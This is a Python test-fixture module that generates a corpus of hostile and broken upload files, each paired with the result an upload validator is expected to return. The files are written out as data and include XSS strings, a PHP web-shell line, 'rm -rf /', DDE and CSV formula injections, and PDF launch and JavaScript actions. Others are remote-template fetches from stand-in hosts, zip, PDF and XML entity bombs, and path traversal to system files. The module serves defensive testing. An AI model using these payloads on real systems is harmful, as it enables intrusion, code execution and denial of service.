"""Corpus of hostile and broken files, each with its name and the expected result."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
import pillow_heif
from PIL import ExifTags, Image, PngImagePlugin

SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
PAYLOADS = (
    SCRIPT,
    PHP,
    b"PK\x03\x04",
    b"GPS",
    b"Makro",
    b"PANOSE",
    b"acTL",
    b"ANIM",
    b"xmpmeta",
    b"JahatICC",
)
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Sent:
    """`fate` is the expected error code, `harmless` if the picture is re-encoded, or `as_is` if stored unchanged."""

    title: str
    name: str
    make: Callable[[], bytes]
    fate: str


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    image = Image.radial_gradient("L").resize(size).convert("RGB")
    image.save(out, kind, **options)
    return out.getvalue()


def heic(size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    pillow_heif.register_heif_opener()
    return picture("HEIF", size, **options)


def heic_that_claims(width: int, height: int) -> bytes:
    return heic().replace(
        b"ispe" + struct.pack(">III", 0, 64, 64), b"ispe" + struct.pack(">III", 0, width, height)
    )


def with_notes(kind: str = "JPEG") -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.ImageDescription] = SCRIPT.decode()
    exif[ExifTags.Base.Artist] = PHP.decode()
    exif._ifds[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S",
        ExifTags.GPS.GPSLatitude: (6.0, 10.0, 30.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (106.0, 49.0, 12.0),
    }
    return picture(kind, exif=exif)


def with_xmp(kind: str) -> bytes:
    return picture(kind, xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + SCRIPT + b"</x:xmpmeta>")


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*chunks: bytes, size: tuple[int, int] = (8, 8)) -> bytes:
    """A black PNG of one bit a pixel, with more chunks before its pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 1, 0, 0, 0, 0))
    rows = zlib.compress(b"\0" * ((size[0] // 8 + 2) * min(size[1], 8)))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zeros(megabytes: int, start: bytes = b"") -> bytes:
    """Return compressed zeros without holding them in memory."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(start), *(packer.compress(b"\0" * 1024 * 1024) for _each in range(megabytes))]
    return b"".join([*parts, packer.flush()])


def bomb_chunk(kind: bytes, prefix: bytes) -> bytes:
    return chunk(kind, prefix + zeros(120))


def jpeg_of(width: int, height: int, **options: object) -> bytes:
    """A small JPEG whose header claims another size."""
    content = picture(**options)
    at = next(i for i in (content.find(b"\xff\xc0"), content.find(b"\xff\xc2")) if i > 0)
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def webp_of(width: int, height: int) -> bytes:
    sizes = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    vp8 = picture("WEBP")[12:]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + sizes + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


def endless_scans() -> bytes:
    """A progressive JPEG that repeats its last scan."""
    content = picture(progressive=True)
    last = content[content.rfind(b"\xff\xda") : -2]
    return content[:-2] + last * 500 + b"\xff\xd9"


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (32, 32), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(name, content)
    return out.getvalue()


def office(main: str = "word/document.xml", types: str = "<Types/>", **parts: str | bytes) -> bytes:
    return archive(**{"[Content_Types].xml": types, main: "<x/>"} | parts)


def workbook(**parts: str | bytes) -> bytes:
    return office("xl/workbook.xml", **parts)


def relations(kind: str, target: str, mode: str = "External") -> str:
    relation = f'<Relationship Id="r1" Type="{WORD}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{relation}</Relationships>"


def dde(*pieces: str) -> str:
    words = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return f'<w:document xmlns:w="w"><w:fldChar/>{words}</w:document>'


def bomb() -> bytes:
    out = io.BytesIO(workbook())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zipped,
        zipped.open("xl/media/a.bin", "w") as part,
    ):
        for _each in range(201):
            part.write(b"\0" * 1024 * 1024)
    return out.getvalue()


def nested(depth: int) -> bytes:
    content = archive(**{"a.bin": b"\0" * 100_000})
    for _level in range(depth):
        content = archive(**{"a.zip": content})
    return content


def laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><Types>&l8;</Types>'


def encrypted_zip() -> bytes:
    content = bytearray(office())
    for at in (6, content.find(b"PK\x01\x02") + 8):
        content[at] |= 1
    return bytes(content)


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _document: None, **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(out, **options)
    return out.getvalue()


def opening(**action: object) -> bytes:
    """Return a PDF with an action that runs when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})

    return pdf(change)


def act(kind: str, **more: object) -> bytes:
    return opening(S=pikepdf.Name(f"/{kind}"), **more)


def pdf_with_file() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["virus.exe"] = b"MZ\x90\0"

    return pdf(change)


def pdf_with_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))

    return pdf(change)


def pdf_bomb() -> bytes:
    """Return a PDF with an object stream of half a megabyte that expands to half a gigabyte."""
    body = zeros(500, b"1 0 ")
    start = b"%PDF-1.5\n"
    stream = b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    objects = start + stream + body + b"\nendstream endobj\n"
    at = len(objects)
    rows = b"".join(
        struct.pack(">BIB", *row) for row in [(0, 0, 0), (1, len(start), 0), (2, 1, 0), (1, at, 0)]
    )
    table = b"3 0 obj<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(rows)
    return objects + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as packed:
        packed.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO(b""))
    return out.getvalue()


def cut(content: bytes, share: float) -> bytes:
    return content[: int(len(content) * share)]


def text_chunk() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SCRIPT.decode())
    return picture("PNG", pnginfo=notes)


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
EXE = b"MZ\x90\0" + b"\0" * 300
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

REFUSED_KINDS = [
    Sent(title, name, lambda content=content: content, "kind")
    for title, name, content in [
        ("a page called a photo", "foto.jpg", b"<!doctype html><html>" + SCRIPT),
        ("a drawing with a script", "denah.svg", SVG),
        ("a drawing called PNG", "denah.png", b'<?xml version="1.0"?>' + SVG),
        ("a web archive", "laporan.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + SCRIPT),
        ("a program of Windows", "laporan.pdf", EXE),
        ("a program of Linux", "foto.jpeg", ELF),
        ("a program of macOS", "foto.heic", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 200),
        ("a shell script", "foto.png", b"#!/bin/sh\nrm -rf /\n"),
        ("a script of PHP", "data.xlsx", PHP),
        ("a script for Windows", "catatan.docx", b'CreateObject("WScript.Shell").Run "calc"'),
        ("a RAR", "foto.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 100),
        ("a 7z", "foto.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 100),
        ("an old spreadsheet, where macros hide", "data.xls", OLE),
        ("a GIF that is JavaScript", "foto.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//;"),
        ("a TIFF", "foto.tif", b"II*\0" + b"\0" * 100),
        ("a film", "film.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 100),
        ("a film called HEIC", "foto.heic", b"\0\0\0\x18ftypisom\0\0\0\0isomavc1" + b"\0" * 100),
        ("an AVIF", "foto.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 100),
        ("a table of text with a formula", "data.csv", b"=cmd|'/c calc'!A1,1\n"),
        ("PostScript", "gambar.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"),
        ("a page before the PDF", "laporan.pdf", b"<html>" + SCRIPT + pdf()),
        ("a single byte", "foto.jpg", b"\xff"),
        ("only zeros", "foto.jpg", b"\0" * 5000),
    ]
] + [Sent("a packed folder", "foto.tar.gz", tar, "kind")]

BROKEN = [
    Sent(
        f"{kind} cut off at {share:.0%}",
        f"foto.{kind.lower()}",
        lambda k=kind, s=share: cut(picture(k), s),
        "broken",
    )
    for kind in ("JPEG", "PNG", "WEBP")
    for share in (0.3, 0.6, 0.9)
] + [
    Sent("HEIC cut off at 60%", "foto.heic", lambda: cut(heic((256, 256)), 0.6), "broken"),
    Sent("HEIC cut off at its head", "foto.heic", lambda: heic()[:40], "broken"),
    Sent("PDF cut off at its head", "a.pdf", lambda: cut(pdf(), 0.1), "broken"),
    Sent("PDF without pages", "a.pdf", lambda: pdf(lambda d: d.pages.__delitem__(0)), "broken"),
    Sent(
        "PDF with a table that lies", "a.pdf", lambda: b"%PDF-1.7\nxref\n0 99\nstartxref\n9\n%%EOF", "broken"
    ),
    Sent("DOCX cut off", "a.docx", lambda: cut(office(), 0.5), "broken"),
    Sent("XLSX cut off", "a.xlsx", lambda: cut(workbook(), 0.9), "broken"),
    Sent("JPEG with endless scans", "foto.jpg", endless_scans, "broken"),
    Sent("nothing at all", "foto.jpg", lambda: b"", "empty"),
]

BOMBS = [
    Sent("PNG that claims 50,000 × 50,000", "a.png", lambda: png(size=(50_000, 50_000)), "pixels"),
    Sent("JPEG that claims 50,000 × 50,000", "a.jpg", lambda: jpeg_of(50_000, 50_000), "pixels"),
    Sent(
        "progressive JPEG of 30 megapixels", "a.jpg", lambda: jpeg_of(6000, 5000, progressive=True), "pixels"
    ),
    Sent("WebP that claims 16,383 × 16,383", "a.webp", lambda: webp_of(16_383, 16_383), "pixels"),
    Sent("HEIC that claims 50,000 × 50,000", "a.heic", lambda: heic_that_claims(50_000, 50_000), "pixels"),
    Sent("HEIC that claims 6,000 × 6,000", "a.heic", lambda: heic_that_claims(6_000, 6_000), "pixels"),
    Sent("ZIP bomb called XLSX", "a.xlsx", bomb, "bomb"),
    Sent("entities that multiply", "a.docx", lambda: office(types=laughs()), "broken"),
    Sent(
        "six thousand parts", "a.docx", lambda: office(**{f"word/{n}.bin": "" for n in range(6000)}), "bomb"
    ),
    Sent("PDF bomb", "a.pdf", pdf_bomb, "broken"),
    Sent("profile of 120 MB in a PNG", "a.png", lambda: png(bomb_chunk(b"iCCP", b"JahatICC\0\0")), "broken"),
    Sent("note of 120 MB in a PNG", "a.png", lambda: png(bomb_chunk(b"zTXt", b"a\0\0")), "broken"),
]

ACTING = [
    Sent("XLSX with macros", "a.xlsx", lambda: workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
    Sent("DOCX with macros", "a.docx", lambda: office(**{"word/VbaProject.bin": b"x"}), "macros"),
    Sent(
        "sheet of old macros", "a.xlsx", lambda: workbook(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"
    ),
    Sent(
        "template from elsewhere",
        "a.docx",
        lambda: office(
            **{"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://jahat.example/a.dotm")}
        ),
        "fetches",
    ),
    Sent(
        "template, written in UTF-16",
        "a.docx",
        lambda: office(
            **{
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-16"?>'
                    + relations("attachedTemplate", "http://jahat.example/a.dotm")
                ).encode("utf-16")
            }
        ),
        "fetches",
    ),
    Sent(
        "picture from elsewhere",
        "a.docx",
        lambda: office(**{"word/_rels/document.xml.rels": relations("image", "file://jahat/a.png")}),
        "fetches",
    ),
    Sent(
        "page placed inside",
        "a.docx",
        lambda: office(**{"word/_rels/document.xml.rels": relations("aFChunk", "a.dat", "Internal")}),
        "embeds",
    ),
    Sent("object of OLE", "a.docx", lambda: office(**{"word/embeddings/oleObject1.bin": OLE}), "embeds"),
    Sent("program inside", "a.xlsx", lambda: workbook(**{"xl/media/setup.exe": EXE}), "embeds"),
    Sent(
        "links to other books",
        "a.xlsx",
        lambda: workbook(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "fetches",
    ),
    Sent("connection to a database", "a.xlsx", lambda: workbook(**{"xl/connections.xml": "<x/>"}), "fetches"),
    Sent("DDE", "a.docx", lambda: office(**{"word/footer1.xml": dde("DDEAUTO c:\\cmd.exe")}), "acts"),
    Sent(
        "DDE in pieces",
        "a.docx",
        lambda: office(**{"word/header1.xml": dde("DD", "EAU", "TO c:\\cmd.exe")}),
        "acts",
    ),
    Sent("locked DOCX", "a.docx", encrypted_zip, "encrypted"),
    Sent("part with a path", "a.docx", lambda: office(**{"word/../../../etc/passwd": "x"}), "broken"),
    Sent("DOCX behind a page", "a.docx", lambda: b"PK\x03\x04" + SCRIPT + office(), "broken"),
    Sent("DOCX with a page behind it", "a.docx", lambda: office() + SCRIPT, "broken"),
    Sent("two documents in one", "a.docx", lambda: office(**{"xl/workbook.xml": "<x/>"}), "not_office"),
    Sent("ZIP in ZIP in ZIP", "a.xlsx", lambda: nested(5), "not_office"),
    Sent("plain ZIP called DOCX", "a.docx", lambda: archive(**{"virus.exe": EXE}), "not_office"),
    Sent("JAR", "a.jar", lambda: archive(**{"META-INF/MANIFEST.MF": b"x"}), "not_office"),
    Sent(
        "PDF with JavaScript", "a.pdf", lambda: act("JavaScript", JS=pikepdf.String("app.alert(1)")), "acts"
    ),
    Sent("PDF that starts a program", "a.pdf", lambda: act("Launch", F=pikepdf.String("calc.exe")), "acts"),
    Sent(
        "PDF that sends a form",
        "a.pdf",
        lambda: act("SubmitForm", F=pikepdf.String("http://x.example")),
        "acts",
    ),
    Sent(
        "PDF that opens a share", "a.pdf", lambda: act("GoToR", F=pikepdf.String("\\\\jahat\\a"), D=0), "acts"
    ),
    Sent("PDF with a form of XML", "a.pdf", pdf_with_form, "acts"),
    Sent("PDF with a program attached", "a.pdf", pdf_with_file, "embeds"),
    Sent(
        "PDF with a password",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")),
        "encrypted",
    ),
    Sent(
        "PDF that only its owner may print",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="y")),
        "encrypted",
    ),
    Sent(
        "PDF that is a page", "a.pdf", lambda: pdf().replace(b"\n", b"\n%" + SCRIPT + b"\n", 1), "two_kinds"
    ),
    Sent("PDF with a page behind it", "a.pdf", lambda: pdf() + b"<html>" + SCRIPT, "two_kinds"),
    Sent("PDF that is a ZIP", "a.pdf", lambda: pdf() + archive(**{"a.exe": EXE}), "two_kinds"),
]

HARMLESS = [
    Sent("JPEG with a ZIP behind it", "a.jpg", lambda: picture() + archive(**{"a.php": PHP}), "harmless"),
    Sent("JPEG with a script behind it", "a.php.jpg", lambda: picture() + SCRIPT, "harmless"),
    Sent("JPEG with a script in its comment", "a.jpg", lambda: picture(comment=SCRIPT), "harmless"),
    Sent("PNG with PHP behind it", "a.png", lambda: picture("PNG") + PHP, "harmless"),
    Sent("PNG with a ZIP behind it", "a.png", lambda: picture("PNG") + archive(**{"a.php": PHP}), "harmless"),
    Sent("PNG with a script in its text", "a.png", text_chunk, "harmless"),
    Sent("PNG with a chunk of its own", "a.png", lambda: png(chunk(b"jaHa", SCRIPT)), "harmless"),
    Sent("WebP with a script behind it", "a.webp", lambda: picture("WEBP") + SCRIPT, "harmless"),
    Sent("JPEG with scripts and a place in its notes", "a.jpg", with_notes, "harmless"),
    Sent("PNG with scripts and a place in its notes", "a.png", lambda: with_notes("PNG"), "harmless"),
    Sent("WebP with scripts and a place in its notes", "a.webp", lambda: with_notes("WEBP"), "harmless"),
    Sent("JPEG with a script in its XMP", "a.jpg", lambda: with_xmp("JPEG"), "harmless"),
    Sent("WebP with a script in its XMP", "a.webp", lambda: with_xmp("WEBP"), "harmless"),
    Sent(
        "JPEG with a hostile profile",
        "a.jpg",
        lambda: picture(icc_profile=b"JahatICC" + b"\0" * 900_000),
        "harmless",
    ),
    Sent("PNG that moves", "a.png", lambda: animated("PNG"), "harmless"),
    Sent("WebP that moves", "a.webp", lambda: animated("WEBP"), "harmless"),
    Sent("PNG called JPEG", "a.jpg", lambda: picture("PNG"), "harmless"),
    Sent("JPEG called PDF", "a.pdf", picture, "harmless"),
    Sent("JPEG called a program", "a.exe", picture, "harmless"),
    Sent("HEIC called JPEG", "a.jpg", heic, "harmless"),
    Sent("HEIC with a script behind it", "a.heic", lambda: heic() + SCRIPT, "harmless"),
]

CORPUS = [*REFUSED_KINDS, *BROKEN, *BOMBS, *ACTING, *HARMLESS]
